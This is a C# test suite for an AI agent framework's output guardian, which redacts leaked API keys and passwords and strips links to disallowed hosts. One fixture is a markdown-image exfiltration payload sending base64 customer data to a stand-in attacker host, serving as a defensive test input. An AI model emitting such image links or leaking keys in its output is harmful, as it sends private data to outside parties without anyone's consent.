using MeshFlow.Events;
using MeshFlow.Execution;
using MeshFlow.Governance;
using MeshFlow.Governance.Guardian;
using MeshFlow.Ledger;
using MeshFlow.Runs;
using MeshFlow.Tests.Steps.Privacy;
using MeshFlow.Tests.Support;
using MeshFlow.Workflows;

namespace MeshFlow.Tests.Steps.Guardian;

/// <summary>The guardian on an agent's output: secrets and exfiltration links never stream, never reach the ledger or the next agent.</summary>
public sealed class GuardianOutputTests
{
    private static readonly string Key = "sk-proj-" + "T3BlbkFJ" + "q8Xw2Lm9Rt4Vz7Kp1Hs6Dn3Gb5Yc0Ef";

    private static readonly string Leaky = $"Here is the configuration. Use the key {Key} for the calls. Done for today.";

    private const string Exfiltrating = "The report is ready. ![status](https://collector.evil.test/pixel.png?d=Q1VTVE9NRVItTElTVC1BQ01FLUNPUlA=) See the summary.";

    private static Policy Guarded(GuardianPolicy guardian) => Policy.ForMode(PolicyModes.Standard) with { Guardian = guardian };

    private static (Workflow Workflow, DelegateChatClient Reader) EchoThenRead(Policy policy, int chunk)
    {
        var reader = DelegateChatClient.FromChunks("read");
        var workflow = new WorkflowBuilder("echo-then-read")
            .AddNode(new AgentNode("writer") { ChatClient = EchoModel.Create(chunk) })
            .AddNode(new AgentNode("reader") { ChatClient = reader })
            .AddEdge("writer", "reader")
            .WithPolicy(policy)
            .Build();
        return (workflow, reader);
    }

    [Theory]
    [InlineData(3)]
    [InlineData(16)]
    [InlineData(1000)]
    public async Task A_secret_in_the_output_is_stripped_before_it_streams_is_stored_or_is_used(int chunk)
    {
        await using var ledger = await TestLedger.OpenSqliteAsync();
        var engine = new MeshFlowEngine(new MeshFlowEngineOptions { Ledger = ledger.Ledger });
        var (workflow, reader) = EchoThenRead(Guarded(GuardianPolicy.On), chunk);

        var capture = await RunCapture.RunAsync(engine, workflow, Leaky);

        Assert.Equal(RunStatus.Completed, capture.Result.Status);
        var deltas = capture.Of<TokenDeltaEvent>().Where(d => d.NodeId == "writer").Select(d => d.Text).ToList();
        Assert.DoesNotContain(deltas, d => d.Contains("sk-", StringComparison.Ordinal) || d.Contains("Ef ", StringComparison.Ordinal));
        var output = capture.Of<StepEndEvent>().Single(e => e.NodeId == "writer").Output;
        Assert.Equal(output, string.Concat(deltas));
        Assert.Equal("Here is the configuration. Use the key [SECRET-REDACTED:openai_key] for the calls. Done for today.", output);
        // The next agent is given the run's input as it was, and the writer's output as it was cleaned.
        var given = Assert.Single(Assert.Single(reader.Calls), m => m.Text.StartsWith("Output of writer:", StringComparison.Ordinal)).Text;
        Assert.Contains("[SECRET-REDACTED:openai_key]", given, StringComparison.Ordinal);
        Assert.DoesNotContain(Key, given, StringComparison.Ordinal);

        var records = await ledger.Store.ReadRecordsAsync("default", capture.Result.RunId);
        var writer = records.Single(r => r.Kind == LedgerRecordKinds.Step && r.NodeId == "writer");
        Assert.Equal("commit", writer.Verdict);
        var finding = Assert.Single(LedgerPayloads.ReadStep(writer.Payload).Guardian!);
        Assert.Equal(("openai_key", GuardianSources.Output, "strip"), (finding.Signal, finding.Source, finding.Action));
        // The run's input held the key too: the run_start record keeps the input as given (the guardian judges outputs),
        // but nothing a step produced holds it.
        Assert.DoesNotContain(records.Skip(1), r => r.Payload.Contains(Key, StringComparison.Ordinal));
    }

    [Fact]
    public async Task With_on_leak_block_a_leaking_output_blocks_the_step_and_is_still_never_streamed()
    {
        var (workflow, reader) = EchoThenRead(Guarded(GuardianPolicy.On with { OnLeak = LeakAction.Block }), 5);

        var capture = await RunCapture.RunAsync(new MeshFlowEngine(), workflow, Leaky);

        Assert.Equal(RunStatus.Blocked, capture.Result.Status);
        Assert.Empty(reader.Calls);
        var step = Assert.Single(capture.Result.Steps);
        Assert.Equal((Verdict.Blocked, BlockReason.Guardian), (step.Verdict, step.BlockReason));
        Assert.Contains("the output carried openai_key", step.BlockDetail, StringComparison.Ordinal);
        Assert.DoesNotContain(capture.Of<TokenDeltaEvent>(), d => d.Text.Contains("sk-", StringComparison.Ordinal));
    }

    [Fact]
    public async Task A_markdown_image_that_carries_data_out_is_removed()
    {
        var (workflow, _) = EchoThenRead(Guarded(GuardianPolicy.On), 8);

        var capture = await RunCapture.RunAsync(new MeshFlowEngine(), workflow, Exfiltrating);

        var output = capture.Of<StepEndEvent>().Single(e => e.NodeId == "writer").Output;
        Assert.DoesNotContain("collector.evil.test", output, StringComparison.Ordinal);
        Assert.Contains("[LINK-REMOVED:markdown_image]", output, StringComparison.Ordinal);
        Assert.StartsWith("The report is ready.", output, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_link_to_a_host_outside_the_allow_list_is_removed_and_one_inside_it_stays()
    {
        var (workflow, _) = EchoThenRead(Guarded(GuardianPolicy.On with { AllowedHosts = ["docs.example.com"] }), 8);

        var capture = await RunCapture.RunAsync(new MeshFlowEngine(), workflow,
            "Read https://docs.example.com/guide first. Then see https://elsewhere.test/page for more.");

        var output = capture.Of<StepEndEvent>().Single(e => e.NodeId == "writer").Output;
        Assert.Contains("https://docs.example.com/guide", output, StringComparison.Ordinal);
        Assert.DoesNotContain("elsewhere.test", output, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_configured_secret_of_the_deployment_is_stripped_wherever_the_agent_writes_it()
    {
        const string password = "correct-horse-battery-staple-42";
        var options = new MeshFlowEngineOptions();
        options.Secrets.Add(password);
        var (workflow, _) = EchoThenRead(Guarded(GuardianPolicy.On), 4);

        var capture = await RunCapture.RunAsync(new MeshFlowEngine(options), workflow, $"The database password is {password} as configured.");

        Assert.DoesNotContain(capture.Events, e => System.Text.Json.JsonSerializer.Serialize(e).Contains(password, StringComparison.Ordinal));
        Assert.Contains("[SECRET-REDACTED:configured_secret]", capture.Of<StepEndEvent>().First().Output, StringComparison.Ordinal);
    }
}
